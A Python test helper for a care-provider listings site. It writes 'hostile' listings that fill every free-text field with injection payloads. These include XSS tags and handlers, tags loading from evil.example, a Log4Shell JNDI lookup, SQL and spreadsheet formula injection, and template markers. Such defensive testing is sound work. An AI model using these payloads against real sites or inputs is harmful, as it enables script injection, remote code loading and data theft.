"""A repository whose every text is hostile, as far as its fields let hostile text in."""

from __future__ import annotations

import copy
import functools
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from PIL import Image

from plugins.records.load import check_listing
from plugins.records.schema import kinds
from tests.builders import LEAST, make_surroundings

# Each sets the tripwire off where it runs, or asks another host for something where it is followed.
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<svg onload=alert(4)>",
    '"><img src=x onerror=alert(5)>',
    "' onmouseover='alert(6)' x='",
    '" onfocus="alert(7)" autofocus="',
    "</title></head><script>alert(8)</script>",
    "<!-- --><script>alert(9)</script>",
    "<base href=//evil.example/>",
    "<iframe src=//evil.example></iframe>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Press</button></form>",
    "[press me](javascript:alert(10))",
    "[press me](data:text/html,<script>alert(11)</script>)",
    "[press me](//evil.example)",
    "![look](https://evil.example/pixel.png)",
    "javascript:alert(12)",
    "data:text/html,<script>alert(13)</script>",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "&lt;script&gt;alert(14)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(15)&#62;",
    "{{ alert }} {% include 'x' %} {# y #}",
    "${alert(16)} #{alert(17)} <%= alert(18) %>",
    "`alert(19)` ~~~ *** ___ ===",
    "${jndi:ldap://evil.example/x}",
    'https://evil.example/"onmouseover=alert(20)',
    "https://www.example.org/javascript:alert(21)",
    "ﷺ شكرا לך Ωμέγα \u200d \U0001d557\U0001d566\U0001d55f 🧑‍🦽 Z͑ͫ̓a̴l̷g̸o",
    "__proto__ constructor toString",
    "Robert'); DROP TABLE people;--",
    "=cmd|' /C calc'!A0",
    "None null undefined NaN true",
    "a" * 110,
)

COMMON: dict[str, Any] = {
    "organisation": {
        "name": "Plain Organisation",
        "cqc_provider_id": "1-101234567",
        "company_number": "01234567",
        "charity_number": "1234567",
        "website": "https://www.example.org",
    },
    "description": "Plain words.",
    "address": {"street": "1 Plain Walk", "town": "Mansfield", "postcode": "NG18 1AA", "show": "full"},
    "email": "plain@example.org",
    "website": "https://www.example.org/",
    "prices": [{"amount": 20, "unit": "hour", "for": "Daytime", "includes": "Travel", "minimum": "One hour"}],
    "availability": {"state": "now", "as_of": "2026-11-01", "note": "On weekdays"},
    "checks": [{"kind": "training", "level": "Level two", "seen_by": "market team", "seen_on": "2026-10-01"}],
    "assured": {"date": "2026-10-01", "by": "market team"},
    "status": {"state": "temporarily-closed", "since": "2026-11-01", "reason": "We are moving."},
    "sources": [{"title": "A plain report", "website": "https://www.example.org/report", "date": "2026-01-01"}],
    "photos": [{"file": "plain.jpg", "alt": "A garden"}],
    "how_to_start": "Ring us.",
}
OWN: dict[str, dict[str, Any]] = {
    "registered": {
        "name": "Plain Name",
        "summary": "A plain summary of it all.",
        "cqc": {
            **LEAST["registered"]["cqc"],
            "provider_id": "1-101234567",
            "provider_name": "Plain Provider",
            "brand": "Plain Brand",
            "also_known_as": "Plain Alias",
            "street": "1 Plain Walk",
            "town": "Mansfield",
            "postcode": "NG18 1AA",
            "local_authority": "Nottinghamshire",
            "website": "https://www.example.org",
            "service_types": ["Homecare agencies"],
            "specialisms": ["Dementia"],
            "regulated_activities": ["Personal care"],
            "rating": {"overall": "Good", "published": "2026-01-01"},
        },
    },
    "micro": {"scheme": "Plain Scheme", "supported_since": "2025-01-01"},
    "personal-assistant": {"reference": "PA-1", "experience": "Ten years of care."},
    "service": {
        "referral": {"route": "either", "how": "Ring the hub.", "triggers": ["When you need it"]},
        "response_time": "Two days",
        "time_limit": "Six weeks",
        "components": [{"name": "First part", "what": "What it does."}],
        "levels": [{"name": "First level", "what": "What it does."}],
        "commissioners": ["The council"],
        "contract": {"reference": "C-1", "type": "Framework", "extension": "Two years"},
        "results": ["Many were helped."],
    },
}
Place = tuple[str | int, ...]


@dataclass(frozen=True)
class Hostile:
    """A hostile listing: its slug, its kind, and the hostile texts that its fields let in."""

    slug: str
    kind: str
    texts: dict[Place, str]


def plain_fields(kind: str) -> dict[str, Any]:
    """Give a valid listing of a kind with every text that it may have."""
    allowed = kinds()[kind].schema["properties"]
    common = {key: value for key, value in COMMON.items() if key in allowed}
    return copy.deepcopy(common | LEAST[kind] | OWN[kind])


def places(kind: str) -> list[Place]:
    """Give where a listing of a kind holds text that somebody typed."""
    return list(_places(plain_fields(kind), kinds()[kind].schema, ()))


def _places(value: Any, part: dict[str, Any], before: Place) -> Iterator[Place]:
    if isinstance(value, dict):
        for key, inside in value.items():
            yield from _places(inside, part["properties"][key], (*before, key))
    elif isinstance(value, list):
        for index, inside in enumerate(value):
            yield from _places(inside, part["items"], (*before, index))
    elif isinstance(value, str) and "oneOf" not in part and part.get("format") != "date":
        yield before


def put(fields: dict[str, Any], place: Place, text: str) -> dict[str, Any]:
    """Give a copy of some fields with a text at a place."""
    changed = copy.deepcopy(fields)
    inside: Any = changed
    for key in place[:-1]:
        inside = inside[key]
    inside[place[-1]] = text
    return changed


def as_file(fields: dict[str, Any]) -> bytes:
    return "".join(f"{key}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in fields.items()).encode()


def is_accepted(kind: str, fields: dict[str, Any], photos: Path) -> bool:
    path = f"providers/{kinds()[kind].folder}/x.yaml"
    return not any(problem.fatal for problem in check_listing(path, as_file(fields), make_surroundings(photos))[1])


def write_hostile(root: Path, naughty: list[str]) -> list[Hostile]:
    """Write a listing of each kind for each payload, and as many as it takes to hold every naughty string once."""
    photos = root / "providers" / "photos"
    photos.mkdir(exist_ok=True)
    Image.new("RGB", (8, 8)).save(photos / "plain.jpg")
    written = []
    for kind in kinds():
        for number, payload in enumerate(PAYLOADS):
            filled = _filled(kind, dict.fromkeys(places(kind), payload), photos)
            written.append(_write(root, f"hostile-{kind}-{number}", kind, *filled))
    free = free_places("service", photos)
    for number, start in enumerate(range(0, len(naughty), len(free))):
        filled = _filled("service", dict(zip(free, naughty[start:], strict=False)), photos)
        written.append(_write(root, f"naughty-{number}", "service", *filled))
    return written


@functools.cache
def free_places(kind: str, photos: Path) -> tuple[Place, ...]:
    """Give where a listing of a kind may hold any words at all."""
    plain = plain_fields(kind)
    return tuple(place for place in places(kind) if is_accepted(kind, put(plain, place, "<b>any words</b>"), photos))


def _filled(kind: str, texts: dict[Place, str], photos: Path) -> tuple[dict[str, Any], dict[Place, str]]:
    """Put texts in a listing, as many as are accepted; give the listing and those."""
    fields, kept = plain_fields(kind), {}
    free = {place: text for place, text in texts.items() if place in free_places(kind, photos)}
    together = fields
    for place, text in free.items():
        together = put(together, place, text)
    if is_accepted(kind, together, photos):  # nearly always, and one question instead of thirty
        fields, kept = together, free
    for place, text in texts.items():
        if place not in kept and is_accepted(kind, put(fields, place, text), photos):
            fields, kept = put(fields, place, text), kept | {place: text}
    return fields, kept


def _write(root: Path, slug: str, kind: str, fields: dict[str, Any], texts: dict[Place, str]) -> Hostile:
    if kind == "registered":  # each with a number of its own
        fields = put(fields, ("cqc", "location_id"), f"1-{sum(slug.encode()) * 1000 + len(slug)}{slug[-2:].strip('-')}")
    path = root / "providers" / kinds()[kind].folder / f"{slug}.yaml"
    path.write_bytes(as_file(fields))
    return Hostile(slug, kind, texts)
